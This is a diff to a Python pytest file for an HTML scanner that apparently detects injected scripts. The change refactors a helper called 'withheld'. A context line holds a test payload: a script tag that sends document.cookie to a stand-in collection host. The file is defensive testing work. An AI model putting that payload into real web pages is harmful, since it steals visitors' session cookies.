@@ -2,7 +2,7 @@
 
 import pytest
 
-from tests.compiled import scanner_of_guard
+from tests.compiled import is_withheld, scanner_of_guard
 
 HEAD = '<!DOCTYPE html>\n<html lang="en">\n<head>\n<title>Tides</title>\n'
 TAIL = "</head>\n<body><h1>Tides</h1><p>The moon pulls at the sea.</p></body>\n</html>\n"
@@ -14,7 +14,7 @@ SENDS = "<script>fetch('https://collect.example/?c=' + document.cookie)</script>
 
 
 def withheld(text: str) -> bool:
-    return any(one.entity_type == "PROMPT_INJECTION" for one in scanner_of_guard("redact-only").find(text))
+    return is_withheld(text, scanner_of_guard("redact-only"))
 
 
 @pytest.mark.parametrize("script", [THEME, SHOW, ABOUT, LATER])
